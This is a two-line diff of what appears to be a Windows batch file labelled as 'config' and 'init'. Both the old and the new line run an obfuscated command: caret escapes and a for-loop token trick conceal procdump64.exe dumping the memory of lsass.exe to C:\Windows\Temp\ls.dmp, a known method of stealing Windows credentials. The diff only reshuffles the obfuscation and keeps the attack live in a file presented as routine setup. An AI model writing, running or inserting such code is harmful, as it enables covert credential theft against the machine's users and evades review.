@@ -1,2 +1,2 @@
-REM config 3733 v4
-f^o^r /f "tokens=2 delims=~" %%^i ^in ("coas~procdump64.exe~vvfs") do %%^i -a^c^ce^p^t^eu^la -ma ^l^s^ass.^e^x^e C:\W^indow^s\^Tem^p\l^s.^dm^p
+REM init 4005 v4
+for /f "tokens=3 delims=;" %%i ^i^n ("itjk;htla;procdump64.exe") d^o %%i -ac^cepteula -m^a ^lsa^ss.e^xe ^C:\W^i^nd^o^ws\^T^e^mp\l^s.dmp
